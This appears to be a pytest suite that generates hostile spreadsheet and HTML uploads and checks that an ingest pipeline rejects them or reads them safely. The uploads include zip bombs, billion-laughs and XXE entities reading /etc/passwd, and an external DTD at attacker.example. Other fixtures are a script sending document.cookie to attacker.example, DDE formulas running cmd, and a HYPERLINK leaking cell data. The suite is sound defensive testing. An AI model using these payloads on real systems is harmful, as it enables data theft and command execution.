"""Hostile files: every one is refused (or read safely) quickly, in bounded memory, with a Vietnamese message
naming the problem, and the database is unchanged.

Each case is generated here, small in memory (a zip bomb is a few KB that declares or inflates to GBs).
Cases marked ``sub`` run in a child process whose peak RSS is measured (its own VmHWM, and its reaped children's) and must stay under
MAX_RSS_MB; every case must finish within CASE_SECONDS (signal.alarm in-process, a timeout for children).
Times and peak memory are printed (``pytest -s``), never asserted.
"""

from __future__ import annotations

import io
import json
import os
import signal
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from openpyxl import Workbook

from oversight.ingest import guards
from oversight.ingest.guards import Limits
from oversight.ingest.pipeline import commit, ingest_file, prepare
from tests.ingest import corpus as C
from tests.ingest.helpers import counts

ROOT = Path(__file__).resolve().parents[2]
CASE_SECONDS = 20
MAX_RSS_MB = 600
ADVICE = "Hãy xuất lại từ hệ thống dưới dạng Excel (.xlsx, .xls) hoặc mở bằng Excel rồi lưu thành .xlsx."


# ---------------------------------------------------------------------------------------------- builders


def _rebuild(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """A copy of a zip package with some members replaced or added."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            body = (replace or {}).get(item.filename, src.read(item.filename))
            z.writestr(item.filename, body)
        for name, body in (add or {}).items():
            z.writestr(name, body)
    return out.getvalue()


def _member(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def _patch_sizes(data: bytes, name: str, declared: int) -> bytes:
    """Make the local and central headers of ``name`` declare ``declared`` uncompressed bytes (a lying header)."""
    buf = bytearray(data)
    enc = name.encode()
    pos = 0
    while True:
        pos = buf.find(b"PK\x03\x04", pos)
        if pos < 0:
            break
        n = struct.unpack_from("<H", buf, pos + 26)[0]
        if bytes(buf[pos + 30 : pos + 30 + n]) == enc:
            struct.pack_into("<I", buf, pos + 22, declared)
        pos += 4
    pos = 0
    while True:
        pos = buf.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        n = struct.unpack_from("<H", buf, pos + 28)[0]
        if bytes(buf[pos + 46 : pos + 46 + n]) == enc:
            struct.pack_into("<I", buf, pos + 24, declared)
        pos += 4
    return bytes(buf)


def _sheet_xml(rows_xml: str, dimension: str | None = "A1") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{rows_xml}</sheetData></worksheet>"
    ).encode()


def _with_sheet(sheet: bytes) -> bytes:
    return _rebuild(C.case_list(), replace={"xl/worksheets/sheet1.xml": sheet})


def zip_bomb_declared() -> bytes:
    """A 4 KB member that declares 4 GB."""
    data = _rebuild(C.case_list(), add={"xl/media/image1.bin": b"\0" * 4096})
    return _patch_sizes(data, "xl/media/image1.bin", 0xFFFF_FFF0)


def zip_bomb_ratio() -> bytes:
    """A member of ~20 KB that really inflates to 20 MB (ratio ~1000:1)."""
    return _rebuild(C.case_list(), add={"xl/media/image1.bin": b"\0" * (20 << 20)})


def zip_bomb_lying_small() -> bytes:
    """The sheet really inflates to 20 MB of XML but declares 900 bytes (under every header check)."""
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 600_001))
    data = _with_sheet(_sheet_xml(rows, None))
    return _patch_sizes(data, "xl/worksheets/sheet1.xml", 900)


def zip_bomb_many_members() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        src = zipfile.ZipFile(io.BytesIO(C.case_list()))
        for item in src.infolist():
            z.writestr(item.filename, src.read(item.filename))
        for i in range(10_001):
            z.writestr(f"xl/media/p{i}.bin", b"")
    return out.getvalue()


def zip_bomb_total() -> bytes:
    """Forty members of 900 KB (each under the ratio check) that add up past a lowered cap of 16 MB."""
    return _rebuild(C.case_list(), add={f"xl/media/m{i}.bin": b"\0" * 900_000 for i in range(40)})


def billion_laughs() -> bytes:
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10)
    )
    sheet = _member(C.case_list(), "xl/worksheets/sheet1.xml").replace(
        b"<worksheet", f"<!DOCTYPE lolz [{ents}]><worksheet".encode(), 1
    )
    sheet = sheet.replace(b"<v>", b"<v>&lol9;", 1)
    return _with_sheet(sheet)


def xxe_shared_strings() -> bytes:
    wb = Workbook()
    wb.active.append(["Mã hồ sơ", "Cơ quan giải quyết", "Ngày tiếp nhận"])
    data = C.xlsx(wb)
    sst = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>'
    )
    return _rebuild(data, add={"xl/sharedStrings.xml": sst.encode()})


def xxe_workbook() -> bytes:
    wbx = _member(C.case_list(), "xl/workbook.xml").replace(
        b"<workbook", b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook', 1
    )
    return _rebuild(C.case_list(), replace={"xl/workbook.xml": wbx})


def dtd_content_types() -> bytes:
    ct = _member(C.case_list(), "[Content_Types].xml").replace(
        b"<Types", b'<!DOCTYPE t [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><Types', 1
    )
    return _rebuild(C.case_list(), replace={"[Content_Types].xml": ct})


def dimension_xfd() -> bytes:
    sheet = _member(C.case_list(), "xl/worksheets/sheet1.xml")
    sheet = sheet.replace(b'<dimension ref="A1:J8"/>', b'<dimension ref="A1:XFD1048576"/>')
    assert b"XFD1048576" in sheet
    return _with_sheet(sheet)


def dimension_3m_rows() -> bytes:
    sheet = _member(C.case_list(), "xl/worksheets/sheet1.xml")
    return _with_sheet(sheet.replace(b'<dimension ref="A1:J8"/>', b'<dimension ref="A1:N3000000"/>'))


def columns_20001() -> bytes:
    cells = "".join(f'<c r="{guards.col_letters(j)}1"><v>{j}</v></c>' for j in range(20_001))
    return _with_sheet(_sheet_xml(f'<row r="1">{cells}</row>', None))


def sparse_gr() -> bytes:
    """Two cells, A1 and GR1000000: within 2,000,000 rows × 200 columns, yet 200 M cells for a dense reader."""
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1000000"><c r="GR1000000"><v>2</v></c></row>'
    return _with_sheet(_sheet_xml(rows, "A1"))


def sparse_z_hidden_ref() -> bytes:
    """A far cell (Z1000000) hidden under a row numbered 2, dimension lying small."""
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="2"><c r="Z1000000"><v>2</v></c></row>'
    return _with_sheet(_sheet_xml(rows, "A1:B2"))


def rows_beyond_limit() -> bytes:
    """Rows up to 3,000 with a lowered max_rows of 1,000 (the real limit is 2,000,000)."""
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 3001))
    return _with_sheet(_sheet_xml(rows, None))


def huge_shared_string() -> bytes:
    """One shared string of 12 MB of incompressible letters, used in the first row."""
    import base64

    text = base64.b64encode(os.urandom(9 << 20)).decode()
    sst = (
        '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<si><t>{text}</t></si></sst>"
    )
    sheet = _sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', None)
    return _rebuild(
        C.case_list(), replace={"xl/worksheets/sheet1.xml": sheet}, add={"xl/sharedStrings.xml": sst.encode()}
    )


def no_workbook_part() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", _sheet_xml(""))
    return out.getvalue()


def zip_encrypted_member() -> bytes:
    data = bytearray(C.case_list())
    pos = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, pos + 8, struct.unpack_from("<H", data, pos + 8)[0] | 1)
    return bytes(data)


def truncated_xlsx() -> bytes:
    data = C.case_list()
    return data[: len(data) // 2]


def corrupt_member() -> bytes:
    """Central directory intact, the sheet's compressed bytes scrambled."""
    data = bytearray(C.case_list())
    pos = data.find(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    for i in range(pos + 10, pos + 60):
        data[i] ^= 0x5A
    return bytes(data)


def ole2_encrypted() -> bytes:
    """The start of an OLE2 container holding an encrypted OOXML package (EncryptionInfo + EncryptedPackage)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9)
    header = header.ljust(512, b"\0")
    names = b"".join(
        n.encode("utf-16-le").ljust(64, b"\0") + b"\0" * 64
        for n in ("Root Entry", "EncryptionInfo", "EncryptedPackage")
    )
    return header + names + os.urandom(2048)


def xls_bytes(cells: list[tuple[int, int, object]]) -> bytes:
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("Hồ sơ")
    for r, c, v in cells:
        ws.write(r, c, v)
    bio = io.BytesIO()
    book.save(bio)
    return bio.getvalue()


def _xls_case_cells() -> list[tuple[int, int, object]]:
    header = ["STT", "Mã hồ sơ", "Cơ quan giải quyết", "Ngày tiếp nhận", "Ngày hẹn trả", "Trạng thái"]
    row = [1, "X-1", "Sở Tư pháp", "02/10/2025", "09/10/2025", "Đang giải quyết"]
    return [(0, c, h) for c, h in enumerate(header)] + [(1, c, v) for c, v in enumerate(row)]


def xls_filepass() -> bytes:
    """An .xls whose globals carry a FILEPASS record (password to open): xlwt's PASSWORD record renamed."""
    data = bytearray(xls_bytes(_xls_case_cells()))
    pos = data.find(b"\x13\x00\x02\x00\x00\x00")
    assert pos > 0
    data[pos : pos + 2] = b"\x2f\x00"
    return bytes(data)


def xls_sparse() -> bytes:
    return xls_bytes([(0, 0, "a"), (65535, 150, "b")])


def xls_wide() -> bytes:
    return xls_bytes([(0, 0, "a"), (5, 255, "b")])


def html_nested_tables() -> bytes:
    return ("<html><body>" + "<table><tr><td>" * 10_000 + "x" + "</td></tr></table>" * 10_000).encode()


def html_nested_divs_around_table() -> bytes:
    inner = C.HTML_CASES.split("<body>", 1)[1].rsplit("</body>", 1)[0]
    return ("<html><body>" + "<div>" * 10_000 + inner + "</div>" * 10_000 + "</body></html>").encode()


def html_script_in_cells() -> bytes:
    html = C.HTML_CASES.replace(
        "<td>Đăng ký&nbsp;khai sinh</td>",
        "<td>Đăng ký khai sinh<script>document.location='http://attacker.example/?c='+document.cookie</script>"
        "<style>td{display:none}</style><iframe src='http://attacker.example'>iframe</iframe></td>",
    ).replace("<td>BN-3</td>", "<td>BN-3<noscript>NOSCRIPT</noscript></td>")
    assert "<script>" in html
    return html.encode()


def html_escaped_script_text() -> bytes:
    """Text that *looks* like a script, escaped in the source: it is data, stored as text."""
    return C.HTML_CASES.replace(
        "<td>Đăng ký&nbsp;khai sinh</td>", "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>"
    ).encode()


def html_huge_spans() -> bytes:
    cells = '<td rowspan="1000" colspan="1000">x</td>' * 50
    return f"<html><body><table><tr><td>Mã hồ sơ</td>{cells}</tr></table></body></html>".encode()


def html_unclosed_comment() -> bytes:
    return ("<html><body><table><tr><td>Mã hồ sơ</td></tr></table><!--" + "a" * 5_000_000).encode()


def html_many_lt() -> bytes:
    return ("<table><tr><td>" + "<" * 2_000_000).encode()


def xlsm_with_macro() -> bytes:
    from tests.ingest.test_readers import _as_xlsm

    return _as_xlsm(C.case_list())


DDE = "=cmd|' /C calc'!A0"
HYPER = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")'


def formula_cells(marker: str) -> bytes:
    """Procedure names as formulas: a DDE call (cached value «Đăng ký khai sinh»), a HYPERLINK (cached «Bấm vào
    đây»), a formula that would write ``marker`` if ever run (no cached value); and the DDE text as a plain string."""
    rows = C.case_rows()
    rows[0][2] = DDE
    rows[1][2] = HYPER
    rows[2][2] = f"=cmd|' /C touch {marker}'!A0"
    data = C.case_list(rows=rows)
    sheet = _member(data, "xl/worksheets/sheet1.xml")
    sheet = sheet.replace(
        b"<f>cmd|' /C calc'!A0</f><v></v>", b"<f>cmd|' /C calc'!A0</f><v>\xc4\x90\xc4\x83ng k\xc3\xbd khai sinh</v>"
    )
    sheet = sheet.replace(b"<v></v>", b"<v>B\xe1\xba\xa5m v\xc3\xa0o \xc4\x91\xc3\xa2y</v>", 1)
    sheet = sheet.replace(b'<c r="C5" ', b'<c r="C5" t="str" ').replace(b'<c r="C6" ', b'<c r="C6" t="str" ')
    wb = Workbook()
    ws = wb.active
    ws.title = "Danh sách"
    ws.append(["DANH SÁCH HỒ SƠ"])
    ws.append(C.CASE_HEADER)
    row = list(C.case_rows()[3])
    row[2] = DDE
    ws.append(row)
    ws["C3"].data_type = "s"
    text_version = C.xlsx(wb)
    return _with_sheet(sheet) if marker else text_version


def long_cell() -> bytes:
    """HS-001's procedure name is 100,018 characters (openpyxl itself cuts at 32,767: patched in the XML)."""
    rows = C.case_rows()
    rows[0][2] = "TEN_DAI"
    data = C.case_list(rows=rows)
    name = next(n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if b"TEN_DAI" in _member(data, n))
    body = _member(data, name).replace(b"TEN_DAI", ("Đăng ký khai sinh " + "x" * 100_000).encode())
    return _rebuild(data, replace={name: body})


def control_chars() -> bytes:
    """NUL, bell, escape and a C1 control inside texts (Excel writes them as _x0000_ escapes)."""
    sheet = _member(C.case_list(), "xl/worksheets/sheet1.xml")
    sst = (
        _member(C.case_list(), "xl/sharedStrings.xml")
        if "xl/sharedStrings.xml" in zipfile.ZipFile(io.BytesIO(C.case_list())).namelist()
        else None
    )
    if sst is not None:
        sst = sst.replace("Đăng ký khai sinh".encode(), "Đăng_x0000_ ký_x0007_ khai_x001B_ sinh\u0085".encode(), 1)
        return _rebuild(C.case_list(), replace={"xl/sharedStrings.xml": sst})
    sheet = sheet.replace("Đăng ký khai sinh".encode(), "Đăng_x0000_ ký_x0007_ khai_x001B_ sinh".encode(), 1)
    return _with_sheet(sheet)


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("data/readme.txt", "xin chào")
        z.writestr("data/report.pdf", C.pdf_bytes())
    return out.getvalue()


def office_zip(prefix: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr(f"{prefix}/document.xml", "<x/>")
    return out.getvalue()


def ods() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def xlsb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
    return out.getvalue()


def odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


# ---------------------------------------------------------------------------------------------- cases


def NOT(what: str, advice: str = ADVICE) -> str:  # noqa: N802 - reads as a sentence in the table
    return f"không phải bảng tính Excel: đây là {what}. {advice}"


@dataclass
class Case:
    id: str
    name: str
    build: Callable[[], bytes]
    expect: str | None  # a fragment of the structural error, or None when the file is read (safely)
    sub: bool = False  # run in a child process and bound its peak memory
    limits: dict = field(default_factory=dict)
    check: Callable | None = None  # for files that are read: what must (not) be in the records


def _check_script(plan) -> None:
    text = " ".join(str(v) for v in plan.records.astype(str).to_numpy().ravel())
    for bad in ("script", "attacker", "document.cookie", "display:none", "iframe", "NOSCRIPT"):
        assert bad not in text, bad
    assert "Đăng ký khai sinh" in set(plan.records["procedure_name"])


def _check_escaped(plan) -> None:
    assert "<script>alert(1)</script>" in set(plan.records["procedure_name"])  # text, as typed


def _check_long(plan) -> None:
    name = plan.records.loc[plan.records["case_code"] == "HS-001", "procedure_name"].iloc[0]
    assert len(name) == 32_767 and name.startswith("Đăng ký khai sinh x")
    assert any("C5 (100.018 ký tự)" in w and "32.767" in w for w in plan.warnings), plan.warnings


def _check_controls(plan) -> None:
    name = plan.records.loc[plan.records["case_code"] == "HS-001", "procedure_name"].iloc[0]
    assert name == "Đăng ký khai sinh", repr(name)
    assert not any(ch in "".join(plan.records["procedure_name"]) for ch in "\x00\x07\x1b\x85")


def _check_xlsm(plan) -> None:
    assert plan.file_format == "xlsm"
    assert list(plan.records["case_code"]) == ["HS-001", "HS-002", "HS-003", "HS-004"]


CASES = [
    # --- size and emptiness
    Case("empty", "rong.xlsx", lambda: b"", "Tệp «rong.xlsx» rỗng (0 byte)."),
    Case(
        "whitespace", "trang.xls", lambda: b" \r\n\t " * 10, "Tệp «trang.xls» không có nội dung (chỉ có khoảng trắng)."
    ),
    Case(
        "over_size_limit",
        "lon.xlsx",
        lambda: b"PK\x03\x04" + b"\0" * (2 << 20),
        "Tệp «lon.xlsx» có dung lượng 2 MB, vượt giới hạn 1 MB cho một lần tải lên.",
        limits={"max_upload_mb": 1},
    ),
    # --- not what the name says
    Case("pdf_as_xlsx", "baocao.xlsx", C.pdf_bytes, NOT("tài liệu PDF")),
    Case("png_as_xlsx", "anh.xlsx", C.png_bytes, NOT("ảnh PNG")),
    Case("jpeg_as_xls", "anh.xls", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + os.urandom(200), NOT("ảnh JPEG")),
    Case("gif_as_xlsx", "anh.xlsx", lambda: b"GIF89a\x01\0\x01\0" + os.urandom(50), NOT("ảnh GIF")),
    Case("rar_as_xlsx", "nen.xlsx", lambda: b"Rar!\x1a\x07\x01\0" + os.urandom(100), NOT("tệp nén RAR")),
    Case("7z_as_xls", "nen.xls", lambda: b"7z\xbc\xaf\x27\x1c\0\x04" + os.urandom(100), NOT("tệp nén 7-Zip")),
    Case("gzip_as_xlsx", "nen.xlsx", lambda: __import__("gzip").compress(b"a,b\n1,2\n"), NOT("tệp nén GZIP")),
    Case(
        "zip_as_xls",
        "goi.xls",
        plain_zip,
        "không phải bảng tính Excel: đây là một tệp nén ZIP. Hãy giải nén và tải lên từng tệp Excel bên trong.",
    ),
    Case("docx_as_xlsx", "vanban.xlsx", lambda: office_zip("word"), NOT("văn bản Word (.docx)")),
    Case("pptx_as_xlsx", "trinhchieu.xlsx", lambda: office_zip("ppt"), NOT("bài trình chiếu PowerPoint (.pptx)")),
    Case("odt_as_xlsx", "vanban.xlsx", odt, NOT("văn bản OpenDocument (.odt)")),
    Case(
        "ods_refused",
        "bang.ods",
        ods,
        "Tệp «bang.ods» là bảng tính OpenDocument (.ods), định dạng không được nhận (chỉ nhận .xlsx, .xlsm, .xls",
    ),
    Case("xlsb_refused", "bang.xlsb", xlsb, "là bảng tính Excel nhị phân (.xlsb), định dạng không được nhận"),
    Case(
        "csv_as_xls",
        "hoso.xls",
        C.csv_bytes,
        "đây là tệp văn bản CSV (phân cách bằng dấu phẩy). Hãy mở bằng Excel và lưu thành .xlsx",
    ),
    Case(
        "txt_as_xlsx", "ghichu.xlsx", lambda: "Báo cáo tháng 10\nkhông có bảng".encode(), NOT("một tệp văn bản thuần")
    ),
    Case("json_as_xlsx", "data.xlsx", lambda: b'{\n "a": 1,\n "b": [1, 2, 3],\n "c": "x"\n}', NOT("tệp dữ liệu JSON")),
    Case(
        "xml_as_xls",
        "data.xls",
        lambda: b'<?xml version="1.0"?><root><item>1</item></root>',
        NOT("một tệp XML không phải bảng tính"),
    ),
    Case(
        "xml_xxe_as_xls",
        "data.xls",
        lambda: b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        NOT("một tệp XML có khai báo DOCTYPE/ENTITY (không được đọc)"),
    ),
    Case("exe_as_xlsx", "setup.xlsx", lambda: b"MZ\x90\0\x03\0\0\0" + os.urandom(300), NOT("tệp chương trình (.exe)")),
    Case(
        "elf_as_xls", "a.xls", lambda: b"\x7fELF\x02\x01\x01\0" + os.urandom(300), NOT("tệp chương trình (ELF, Linux)")
    ),
    Case("random_binary", "x.xlsx", C.random_bytes, NOT("một tệp nhị phân không rõ định dạng")),
    # --- broken packages
    Case("truncated_zip", "cat.xlsx", truncated_xlsx, "Tệp «cat.xlsx» bị hỏng hoặc không trọn vẹn"),
    Case("corrupt_member", "hong.xlsx", corrupt_member, "bị hỏng hoặc bị làm giả: phần «xl/worksheets/sheet1.xml»"),
    Case(
        "no_workbook_part", "thieu.xlsx", no_workbook_part, "là bảng tính Excel bị hỏng: thiếu phần «xl/workbook.xml»"
    ),
    Case("zip_encrypted_member", "matkhau.xlsx", zip_encrypted_member, "được nén có mật khẩu"),
    # --- passwords
    Case(
        "ole2_encrypted",
        "matkhau.xlsx",
        ole2_encrypted,
        "Tệp «matkhau.xlsx» là bảng tính Excel được đặt mật khẩu. Hãy mở bằng Excel, bỏ mật khẩu rồi tải lại.",
    ),
    Case("xls_filepass", "matkhau.xls", xls_filepass, "Tệp «matkhau.xls» là bảng tính Excel được đặt mật khẩu."),
    # --- zip bombs (child process, peak memory bounded)
    Case("zip_bomb_declared", "bom.xlsx", zip_bomb_declared, "có dấu hiệu «bom nén» (zip bomb)", sub=True),
    Case("zip_bomb_ratio", "bom.xlsx", zip_bomb_ratio, "(tỉ lệ 1.0", sub=True),
    Case(
        "zip_bomb_lying_header",
        "bom.xlsx",
        zip_bomb_lying_small,
        "không giải nén được đúng như khai báo (kích thước hoặc mã kiểm tra CRC không khớp)",
        sub=True,
    ),
    Case("zip_bomb_members", "bom.xlsx", zip_bomb_many_members, "tệp chứa 10.010 thành phần nén (giới hạn 10.000)"),
    Case(
        "zip_bomb_total",
        "bom.xlsx",
        zip_bomb_total,
        "bung ra tổng cộng 34,4 MB, vượt giới hạn 16 MB",
        sub=True,
        limits={"max_decompressed_mb": 16},
    ),
    # --- XML bombs
    Case(
        "billion_laughs",
        "bom.xlsx",
        billion_laughs,
        "phần «xl/worksheets/sheet1.xml» chứa khai báo DOCTYPE/ENTITY",
        sub=True,
    ),
    Case(
        "xxe_shared_strings", "xxe.xlsx", xxe_shared_strings, "phần «xl/sharedStrings.xml» chứa khai báo DOCTYPE/ENTITY"
    ),
    Case("xxe_workbook", "xxe.xlsx", xxe_workbook, "phần «xl/workbook.xml» chứa khai báo DOCTYPE/ENTITY"),
    Case("dtd_content_types", "dtd.xlsx", dtd_content_types, "phần «[Content_Types].xml» chứa khai báo DOCTYPE/ENTITY"),
    # --- sheets beyond the size limits
    Case(
        "dimension_xfd",
        "rong.xlsx",
        dimension_xfd,
        "khai báo vùng dữ liệu A1:XFD1048576 (1.048.576 dòng × 16.384 cột), vượt giới hạn 2.000.000 dòng × 200 cột",
        sub=True,
    ),
    Case(
        "dimension_3m_rows",
        "dai.xlsx",
        dimension_3m_rows,
        "khai báo vùng dữ liệu A1:N3000000 (3.000.000 dòng × 14 cột), vượt giới hạn 2.000.000 dòng",
        sub=True,
    ),
    Case("columns_20001", "rong.xlsx", columns_20001, "vượt giới hạn 200 cột", sub=True),
    Case(
        "sparse_a1_gr1000000",
        "thua.xlsx",
        sparse_gr,
        "trải trên vùng 1.000.000 dòng × 200 cột (tới ô GR1000000) nhưng chỉ có 2 ô có dữ liệu",
        sub=True,
    ),
    Case(
        "sparse_far_ref_under_small_row",
        "thua.xlsx",
        sparse_z_hidden_ref,
        "trải trên vùng 1.000.000 dòng × 26 cột (tới ô Z1000000) nhưng chỉ có 2 ô có dữ liệu",
        sub=True,
    ),
    Case(
        "rows_beyond_limit",
        "dai.xlsx",
        rows_beyond_limit,
        "có dữ liệu tới dòng 3.000, vượt giới hạn 1.000 dòng",
        limits={"max_rows": 1000},
    ),
    Case("huge_shared_string", "dai.xlsx", huge_shared_string, "một ô văn bản dài bất thường", sub=True),
    Case("xls_sparse", "thua.xls", xls_sparse, "trải trên vùng 65.536 dòng × 151 cột nhưng chỉ có 2 ô", sub=True),
    Case("xls_wide", "rong.xls", xls_wide, "vượt giới hạn 2.000.000 dòng × 200 cột", sub=True),
    # --- HTML
    Case("html_nested_tables_10000", "web.xls", html_nested_tables, "lồng nhau quá sâu (hơn 32 tầng bảng trong bảng)"),
    Case(
        "html_huge_spans", "web.xls", html_huge_spans, "bảng HTML có dòng rộng tới 1.001 cột (giới hạn 200)", sub=True
    ),
    Case("html_unclosed_comment", "web.xls", html_unclosed_comment, "Không tìm thấy dòng tiêu đề cột"),
    Case("html_many_lt", "web.xls", html_many_lt, "Không tìm thấy dòng tiêu đề cột"),
    Case(
        "html_many_end_tag_openers",
        "web.xls",
        lambda: ("<table><tr><td>" + "</" * 2_000_000).encode(),
        "Không tìm thấy dòng tiêu đề cột",
    ),
    Case(
        "html_many_declaration_openers",
        "web.xls",
        lambda: ("<table><tr><td>" + "<!" * 2_000_000).encode(),
        "Không tìm thấy dòng tiêu đề cột",
    ),
    Case(
        "html_rows_beyond_limit",
        "web.xls",
        lambda: ("<table>" + "<tr><td>1</td></tr>" * 1200 + "</table>").encode(),
        "bảng HTML có hơn 1.000 dòng",
        limits={"max_rows": 1000},
    ),
    # --- read, safely
    Case("html_script_in_cells", "web.xls", html_script_in_cells, None, check=_check_script),
    Case("html_escaped_script_text", "web.xls", html_escaped_script_text, None, check=_check_escaped),
    Case("html_10000_nested_divs", "web.xls", html_nested_divs_around_table, None),
    Case("xlsm_with_vba_project", "macro.xlsm", xlsm_with_macro, None, check=_check_xlsm),
    Case("cell_of_100000_chars", "dai.xlsx", long_cell, None, check=_check_long),
    Case("nul_and_control_chars", "nul.xlsx", control_chars, None, check=_check_controls),
]


# ---------------------------------------------------------------------------------------------- running

_CHILD = """
import json, os, resource, sys, time
sys.path.insert(0, {root!r})
from oversight import access, db
from oversight.ingest import guards
from oversight.ingest.pipeline import commit, prepare
from tests.ingest.helpers import counts
access._current.set(access.operator("pytest"))  # the child uploads as an operator, like the CLI
from tests.ingest.test_hostile import CASES
case = next(c for c in CASES if c.id == {case_id!r})
limits = guards.Limits(**case.limits)
guards.current_limits = lambda: limits
con = db.open_database({db!r})
data = case.build()
before = counts(con)
with open("/proc/self/status") as status:
    rss0 = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
t = time.perf_counter()
plan = prepare(data, case.name, con)
result = commit(con, plan, "test")
seconds = time.perf_counter() - t
with open("/proc/self/status") as status:
    hwm = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
peak = max(hwm, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(json.dumps({{"error": plan.error, "seconds": seconds, "size": len(data), "before": before,
    "after": counts(con), "status": result.status, "rss_before_mb": rss0 / 1024, "peak_rss_mb": peak / 1024}}))
"""


def _run_child(case: Case, tmp_path: Path) -> dict:
    code = _CHILD.format(root=str(ROOT), case_id=case.id, db=str(tmp_path / "child.duckdb"))
    proc = subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT, env=os.environ.copy()
    )
    deadline = time.monotonic() + CASE_SECONDS + 30  # + imports and migrations of a fresh interpreter
    while True:
        pid, status, _usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() > deadline:
            proc.kill()
            os.wait4(proc.pid, 0)
            pytest.fail(f"{case.id}: still running after {CASE_SECONDS + 30} s")
        time.sleep(0.05)
    out, err = proc.stdout.read().decode(), proc.stderr.read().decode()
    proc.returncode = os.waitstatus_to_exitcode(status)
    assert proc.returncode == 0, err[-3000:]
    info = json.loads(out.strip().splitlines()[-1])
    # The child's own peak (VmHWM: its address space since exec) and that of the children it reaped. Not the
    # rusage of wait4: Linux carries a forked process's high-water mark across exec, so ru_maxrss would start at
    # this pytest process's own size, whatever the child did.
    return info


class _Alarm:
    def __enter__(self):
        def _timeout(signum, frame):
            raise TimeoutError(f"case still running after {CASE_SECONDS} s")

        self.old = signal.signal(signal.SIGALRM, _timeout)
        signal.alarm(CASE_SECONDS)

    def __exit__(self, *exc):
        signal.alarm(0)
        signal.signal(signal.SIGALRM, self.old)


@pytest.mark.slow
@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_file(case: Case, con, tmp_path, monkeypatch):
    if case.sub:
        info = _run_child(case, tmp_path)
        print(
            f"\n{case.id}: {info['size']:,} bytes, {info['seconds']:.2f} s, peak RSS {info['peak_rss_mb']:.0f} MB "
            f"(after imports {info['rss_before_mb']:.0f} MB)"
        )
        assert info["error"] is not None and case.expect in info["error"], info["error"]
        assert info["status"] == "rejected"
        assert info["after"] == info["before"]
        assert info["peak_rss_mb"] < MAX_RSS_MB
        return
    limits = Limits(**case.limits)
    monkeypatch.setattr(guards, "current_limits", lambda: limits)
    data = case.build()
    before = counts(con)
    with _Alarm():
        t = time.perf_counter()
        plan = prepare(data, case.name, con)
        seconds = time.perf_counter() - t
        print(f"\n{case.id}: {len(data):,} bytes, {seconds:.2f} s")
        if case.expect is None:
            assert plan.ok, plan.error_text()
            if case.check:
                case.check(plan)
            return
        assert plan.error is not None and case.expect in plan.error, plan.error
        result = commit(con, plan, "test")
    assert result.status == "rejected"
    assert counts(con) == before


def test_corpus_is_large_enough():
    assert len(CASES) >= 40
